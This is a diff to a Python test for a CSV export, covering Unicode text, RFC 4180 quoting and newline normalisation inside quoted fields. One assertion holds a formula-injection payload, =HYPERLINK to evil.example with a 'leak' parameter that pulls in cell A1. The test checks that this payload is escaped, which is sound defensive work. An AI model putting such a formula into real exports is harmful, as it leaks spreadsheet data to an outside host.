@@ -115,7 +115,8 @@ def test_csv_is_utf8_with_rfc4180_quoting_and_no_bom_by_default(client, data):
     assert "Ünïcödé: ça va, 移民, مهاجر — fine" in text
     assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1, ""Click"")"' in text
     assert '"says ""hello"", twice: ""hello"""' in text
-    assert '"line one\nline two\r\nline three"' in text
+    # Stored with LF line breaks, whichever way they came in (gfmd_portal.fields).
+    assert '"line one\nline two\nline three"' in text
 
 
 def test_bom_on_request(client, data):
